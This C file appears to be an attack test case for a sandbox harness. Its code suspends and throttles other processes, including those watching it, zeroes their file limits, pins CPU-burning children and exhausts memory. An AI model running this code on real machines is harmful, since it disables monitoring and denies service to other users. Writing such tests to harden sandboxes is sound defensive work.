/* {timeout=8s} Makes whoever watches it as slow as it can, then takes all memory. */
#include "attack.h"

int main(void)
{
    cpu_set_t first;
    CPU_ZERO(&first);
    CPU_SET(0, &first);
    for (pid_t pid = 1; pid < 40; pid++) {
        if (pid == getpid())
            continue;
        struct rlimit tight = {0, 0};
        setpriority(PRIO_PROCESS, (id_t)pid, 19);
        sched_setaffinity(pid, sizeof first, &first);
        prlimit(pid, RLIMIT_NOFILE, &tight, NULL);
        kill(pid, SIGSTOP);
    }
    setpriority(PRIO_PGRP, 0, 0);
    for (int i = 0; i < 4; i++)
        if (fork() == 0) {
            sched_setaffinity(0, sizeof first, &first);
            for (;;)
                ;
        }
    for (;;)
        take_memory(1 << 20);
}
